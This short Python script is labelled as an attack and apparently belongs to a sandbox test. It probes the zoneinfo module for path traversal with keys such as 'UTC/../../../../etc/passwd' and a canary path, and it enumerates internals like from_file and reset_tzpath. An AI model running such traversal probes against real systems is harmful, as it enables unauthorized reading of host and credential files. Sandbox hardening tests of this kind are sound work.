# attack: read host files through zoneinfo: path traversal in keys, from_file, TZPATH, reset_tzpath
import zoneinfo
for key in (canary_path, "../" * 10 + canary_path.lstrip("/"), "..", "UTC/../../../../etc/passwd", "."):
    try:
        print(zoneinfo.ZoneInfo(key))
    except Exception as e:
        print(type(e).__name__)
for name in ("from_file", "clear_cache", "_unpickle", "__reduce__", "__init_subclass__"):
    try:
        print(name, getattr(zoneinfo.ZoneInfo, name))
    except AttributeError:
        print("no", name)
for name in ("TZPATH", "reset_tzpath", "_tzpath", "_common"):
    try:
        print(name, getattr(zoneinfo, name))
    except AttributeError:
        print("no", name)
print(zoneinfo.ZoneInfo.no_cache("UTC"))
